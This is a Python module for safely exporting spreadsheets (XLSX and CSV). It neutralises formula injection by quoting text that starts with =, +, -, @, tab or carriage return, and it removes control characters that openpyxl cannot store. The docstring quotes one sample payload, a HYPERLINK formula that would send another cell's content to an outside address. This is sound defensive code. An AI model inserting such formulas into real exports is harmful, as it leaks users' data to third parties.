"""The one writer for every spreadsheet the software hands out (XLSX and CSV).

Two defences, applied to every cell:

- **Formula injection** (OWASP "CSV injection"): text that begins with `=`, `+`, `-`, `@`, a tab or a carriage
  return would be read as a formula by Excel or LibreOffice (e.g. an organisation imported as
  `=HYPERLINK("http://…"&C2,"…")`). Such text is written with a leading single quote, so the spreadsheet shows it
  as text. Numbers (int, float, Decimal) stay numbers: a negative amount is not text and is never quoted.
- **Characters a workbook cannot store**: control characters (other than tab, newline and carriage return) make
  openpyxl raise `IllegalCharacterError`; they are removed, so an export never fails on a name imported with them.

Use `xlsx_workbook()` / `add_sheet()` / `xlsx_bytes()` or `csv_text()`; never write cells with openpyxl or
`csv.writer` directly. The import template (landscape/imports/template.py) writes only our own fixed texts and is
the single exception.
"""

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What openpyxl refuses (openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE): C0 controls except \t \n \r.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_NUMBER_TYPES = (int, float, decimal.Decimal)
# A number written as text ("-12.50", "+3"): no formula, and quoting it would turn a number into text.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def safe_cell(value):
    """A cell value that cannot run as a formula and that openpyxl can store. Numbers, dates, booleans and None are
    returned as they are; everything else becomes text."""
    if value is None or isinstance(value, bool | datetime.date | datetime.datetime | datetime.time):
        return value
    if isinstance(value, _NUMBER_TYPES):
        return value
    text = _ILLEGAL.sub("", str(value))
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: Iterable) -> list:
    return [safe_cell(v) for v in row]


# --- XLSX ----------------------------------------------------------------------------------------------------------


def xlsx_workbook():
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    return wb


def add_sheet(wb, title, header, rows, formats=()):
    """A sheet with a bold, frozen header row; every cell goes through `safe_cell`. Text cells are stored as
    strings (data type "s"), never as formulas. `formats` gives a number format per column (None: leave as is);
    it applies to number cells only."""
    from openpyxl.styles import Font

    ws = wb.create_sheet(_ILLEGAL.sub("", str(title))[:31] or "-")
    ws.append(safe_row(str(h) for h in header))
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for row in rows:
        values = safe_row(row)
        ws.append(values)
        for col, fmt in enumerate(formats, start=1):
            if fmt and col <= len(values) and isinstance(values[col - 1], _NUMBER_TYPES):
                ws.cell(row=ws.max_row, column=col).number_format = fmt
    _text_not_formula(ws)
    ws.freeze_panes = "A2"
    for col, h in zip(ws.columns, header, strict=False):
        ws.column_dimensions[col[0].column_letter].width = max(12, min(45, len(str(h)) + 2))
    return ws


def _text_not_formula(ws):
    # openpyxl marks any string starting with "=" as a formula; after `safe_cell` none does, but make sure.
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.value = "'" + str(cell.value)
                cell.data_type = "s"


def xlsx_bytes(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# --- CSV -----------------------------------------------------------------------------------------------------------


def csv_text(header, rows, *, delimiter=";") -> str:
    """CSV (semicolon-separated, as Dutch Excel expects) with every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return out.getvalue()
